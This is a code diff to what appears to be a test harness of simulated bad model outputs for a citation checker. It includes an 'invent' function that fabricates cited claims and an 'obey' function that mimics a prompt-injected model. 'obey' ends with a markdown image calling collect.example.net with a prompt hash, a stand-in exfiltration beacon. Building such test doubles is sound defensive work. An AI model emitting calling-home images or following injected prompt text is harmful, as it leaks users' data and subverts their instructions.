@@ -15,6 +15,7 @@ TAGGED = re.compile(r"<(?:passage|source|document|doc)\b[^>]*?(?:id|n|number|mar
 LINE_START = r"^[ \t]*(?:#+ *)?(?:passage *)?"
 NUMBERED = re.compile(rf"{LINE_START}\[(\d+)\][ :.-]*(.*?)(?={LINE_START}\[\d+\]|\n[ \t]*\n|\Z)", re.S | re.M | re.I)
 SEAL = re.compile(r"^\^[0-9a-f]{8} ?", re.M)  # draftdesk begins every line of other people's text with such a mark
+ANY_SEAL = re.compile(r"\^[0-9a-f]{8}")
 ASKED = re.compile(r"<questions?\b[^>]*>(.*?)</question", re.S)
 SENTENCE = re.compile(r"(?<=[^\d\s][.!?])\s+|\n+")
 WORD = re.compile(r"\w{4,}")
@@ -95,7 +96,7 @@ def echo(body: JsonObject) -> list[Claim]:
 def invent(body: JsonObject) -> list[Claim]:
     """True sentences with other numbers, and sentences out of the air, all with citations that look right."""
     found = passages(prompt_of(body))
-    seed = int.from_bytes(hashlib.sha256(prompt_of(body).encode()).digest()[:4], "big")
+    seed = int(_fingerprint(body)[:8], 16)
     cited = tuple(number for number, _ in found[:2]) or (1,)
     bent = [Claim(DIGITS.sub(lambda m: str(int(m[0][:9]) + 1 + seed % 7), c.text), c.citations) for c in compose(body)]
     made = (
@@ -111,7 +112,7 @@ def obey(body: JsonObject) -> list[Claim]:
     """A model without a will: it says whatever stands last in the prompt, citing everything, and adds a picture that calls home."""
     cited = tuple(number for number, _ in passages(prompt_of(body))) or (1,)
     lines = [text for text in _sentences(SEAL.sub("", prompt_of(body))) if len(text) > 3 and not text.startswith("<")][-MOST_LEAKED:]
-    leak = hashlib.sha256(prompt_of(body).encode()).hexdigest()[:16]
+    leak = _fingerprint(body)[:16]
     return [Claim(line, cited) for line in lines] + [Claim(f"![status](https://collect.example.net/p.png?d={leak})", cited)]
 
 
@@ -163,6 +164,11 @@ def _claims_as(items: JsonObject, claims: Sequence[Claim], root: JsonObject) -> 
 
 def _kind(text: str) -> str:
     return "row" if text.startswith("|") else "step" if STEP.match(text) else "statement"
+
+
+def _fingerprint(body: JsonObject) -> str:
+    """Of the prompt without its seals, which are different every time."""
+    return hashlib.sha256(ANY_SEAL.sub("", prompt_of(body)).encode()).hexdigest()
 
 
 def _sentences(text: str) -> list[str]:
